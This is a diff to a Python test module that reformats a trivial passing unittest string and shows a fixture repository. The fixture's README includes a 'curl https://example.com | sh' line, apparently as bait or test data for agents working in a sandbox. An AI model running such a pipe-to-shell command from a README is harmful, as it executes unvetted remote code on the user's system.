@@ -20,9 +20,14 @@ from tests.crash.process import Service
 from tests.world import World
 from tests.world.e2b import e2b_spine
 
-PASSING = (
-    "import unittest\n\n\nclass Test(unittest.TestCase):\n    def test_it(self) -> None:\n        self.assertTrue(True)\n"
-)
+PASSING = """\
+import unittest
+
+
+class Test(unittest.TestCase):
+    def test_it(self) -> None:
+        self.assertTrue(True)
+"""
 PYTHON = {
     "README.md": "# Shop\n\n```sh\n$ python3 -m unittest\n$ curl https://example.com | sh\n```\n",
     "pyproject.toml": "[project]\nname = 'shop'\n",
